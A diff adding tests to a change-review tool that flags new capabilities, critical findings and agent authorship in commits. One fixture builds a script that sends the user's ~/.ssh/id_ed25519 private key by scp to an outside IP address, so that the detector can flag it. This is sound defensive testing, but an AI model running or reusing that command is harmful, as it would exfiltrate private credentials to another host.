@@ -65,6 +65,64 @@ describe("countersign review", () => {
     });
   });
 
+  it("puts a finding that a changed value brings about under the unit that changed it", () => {
+    const script = (key: string): string => `KEY=${key}\nset -e\necho uploading\nscp "$KEY" backup@203.0.113.9:/srv/\n`;
+    repository({ "up.sh": script("./testdata/key") }, { "up.sh": script("$HOME/.ssh/id_ed25519") }, (folder) => {
+      const { units } = report(folder);
+      assert.deepEqual(
+        units.map((unit: { added: object; risk: string; findings: { rule: string; state: string }[] }) => [
+          unit.added,
+          unit.risk,
+          unit.findings.find(({ rule }) => rule === "command/secret-to-host")?.state,
+        ]),
+        [[{ start: 0, end: 1 }, "critical", "new"]],
+      );
+      assert.match(review(folder).stdout, /To read\n {2}critical {2}up\.sh {2}\+1 −1 +Sends ~\/\.ssh\/id_ed25519 to 203\.0\.113\.9/);
+    });
+  });
+
+  it("says first what the change can do that it could not do before, with each place", () => {
+    const before = { "a.py": "import os\n\n\ndef name():\n    return 1\n" };
+    const after = {
+      "a.py":
+        'import os\nimport subprocess\nimport requests\n\n\ndef name():\n    requests.get("https://api.example.org/x")\n    subprocess.run(["git", "fetch"])\n    return os.environ["DEPLOY_TOKEN"]\n',
+    };
+    repository(before, after, (folder) => {
+      const { stdout } = review(folder);
+      assert.match(stdout, /New in this change\n {2}Talks to: api\.example\.org \(a\.py:7\)/);
+      assert.match(stdout, /Runs: git \(a\.py:8\)/);
+      assert.match(stdout, /Reads from the environment: DEPLOY_TOKEN \(a\.py:9\)/);
+      const { capabilities, findings } = report(folder);
+      assert.ok(
+        capabilities.added.some((one: { kind: string; object?: string }) => one.kind === "environment" && one.object === "DEPLOY_TOKEN"),
+      );
+      assert.ok(findings.every((one: { category: string }) => one.category !== "capability"));
+    });
+  });
+
+  it("says who wrote the change by what evidence, and who made its commits", () => {
+    repository({ "a.py": "a = 1\n" }, { "a.py": "a = 2\n" }, (folder) => {
+      git(folder, "commit", "-q", "--amend", "-m", "work", "-m", "Co-authored-by: Claude <noreply@anthropic.com>");
+      const { stdout } = review(folder);
+      assert.match(stdout, /an agent wrote all of it, by signs that anybody can write\n {4}Co-authored-by: Claude/);
+      const { units, identity } = report(folder);
+      assert.deepEqual([units[0].author, units[0].provenance.strength], ["agent", "weak"]);
+      assert.ok(identity.some((fact: { kind: string }) => fact.kind === "unsigned"));
+    });
+  });
+
+  it("folds what asks for little, and names what asks for more", () => {
+    const before: Record<string, string> = { "run.py": "def f(x):\n    return x\n" };
+    const after: Record<string, string> = { "run.py": "def f(x):\n    return x + 1\n" };
+    for (let at = 0; at < 8; at++) {
+      before[`doc${at}.md`] = "# A\n";
+      after[`doc${at}.md`] = "# B\n";
+    }
+    repository(before, after, (folder) => {
+      assert.match(review(folder).stdout, /To read\n {2}medium {4}run\.py {2}\+1 −1 +source\n {2}and 8 files more: 8 documentation\n/);
+    });
+  });
+
   it("passes a change that brings nothing, whatever was there before", () => {
     repository({ "a.sh": `${tunnel}\n` }, { "a.sh": `${tunnel}\nls\n` }, (folder) => {
       const { code, stdout } = review(folder);
